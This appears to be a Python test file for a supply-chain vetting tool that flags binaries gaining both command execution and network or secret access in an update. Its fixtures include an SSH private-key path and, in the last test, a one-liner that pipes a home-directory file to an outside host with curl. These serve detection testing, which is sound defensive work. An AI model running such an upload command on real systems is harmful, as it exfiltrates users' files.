"""What one binary gained in an update: two powers at once, and the near misses of one."""

from dataclasses import replace

import pytest

from beartrap.model.finding import Severity
from beartrap.vet.binary.growth import GainAnalyser
from beartrap.vet.binary.native import imports
from beartrap.vet.kinds import Kind
from vet.binary.binary_lab import Version, java_class, keys, look, subject


def gained(old: list[str], new: list[str], text: bytes = b"") -> list[str]:
    """Return what the analyser says of a class that refers to `old` members, and then to `new` ones with a text."""
    before, after = _seen("a/B.class", old, b""), _seen("a/B.class", new, text)
    return [one.key for one in GainAnalyser().look(before, after)]


class _Seen(Version):
    found: tuple = ()

    def behaviours(self):
        return self.found


def _seen(path: str, members: list[str], text: bytes) -> _Seen:
    content = java_class("a/B", *members) + text
    side = _Seen({path: (content, Kind.BYTECODE)})
    side.found = tuple(look(content, Kind.BYTECODE, path))
    return side


RUNS, SPEAKS = "java/lang/Runtime::exec", "java/net/URL::openStream"
KEYS = b"\0/.ssh/id_rsa\0"


@pytest.mark.parametrize(
    ("old", "new", "text"),
    [([], [RUNS, SPEAKS], b""), ([], [SPEAKS], KEYS), ([], [RUNS], KEYS), ([], [RUNS], b"\0http://192.0.2.7/x\0")],
)
def test_two_new_powers_in_one_binary_are_told(old, new, text):
    assert len(gained(old, new, text)) == 1


@pytest.mark.parametrize(
    ("old", "new", "text"),
    [
        ([], [SPEAKS], b""),
        ([], [RUNS], b"\0https://docs.thing.example/\0"),
        ([SPEAKS], [SPEAKS, RUNS], b""),
        ([RUNS], [RUNS, SPEAKS], b""),
        ([RUNS, SPEAKS], [RUNS, SPEAKS], KEYS),
        ([], ["java/lang/Runtime::freeMemory", "java/net/URL::toString"], KEYS),
    ],
)
def test_one_new_power_beside_what_was_there_is_not(old, new, text):
    assert gained(old, new, text) == []


def test_powers_in_different_files_do_not_add_up():
    one, other = _seen("a/B.class", [RUNS], b""), _seen("a/C.class", [SPEAKS], b"")
    both = _Seen({**one.files, **other.files})
    both.found = (*one.found, *other.found)
    assert not list(GainAnalyser().look(_seen("a/D.class", [], b""), both))


def test_without_an_older_version_nothing_is_gained():
    assert not list(GainAnalyser().look(None, _seen("a/B.class", [RUNS, SPEAKS], KEYS)))


def _library(*names: str, origin: str | None = None) -> "_Built":
    side = _Built({"lib/core.so": (b"", Kind.ELF)})
    side.found = tuple(imports(subject(b"", Kind.ELF, "lib/core.so"), names, []))
    side.came_from = origin
    return side


class _Built(_Seen):
    came_from: str | None = None

    def origin(self, path):
        return self.came_from


def test_a_library_that_begins_to_take_the_environment_and_to_speak_is_told_a_new_one_is_not():
    before = _library("strlen")
    assert len(list(GainAnalyser().look(before, _library("environ", "connect", origin="lib/core.so")))) == 1
    assert not list(GainAnalyser().look(before, _library("environ", "connect")))  # a runtime that comes with it
    assert not list(GainAnalyser().look(before, _library("environ", origin="lib/core.so")))


def test_what_weighs_little_is_no_power():
    side = _seen("a/B.class", [RUNS], KEYS)
    side.found = tuple(replace(one, severity=Severity.LOW) if "secret" in one.id else one for one in side.found)
    assert not list(GainAnalyser().look(_seen("a/B.class", [], b""), side))


def test_data_piped_into_a_client_of_the_network_is_a_command():
    assert any(
        "binary.command" in one for one in keys(b"\x7fELF\0cat $HOME/x | curl -T - https://a.example/\0", Kind.ELF)
    )
    near = keys(b"\x7fELF\0usage: tool | less, or curl it yourself\0", Kind.ELF)
    assert not any("binary.command" in one for one in near)
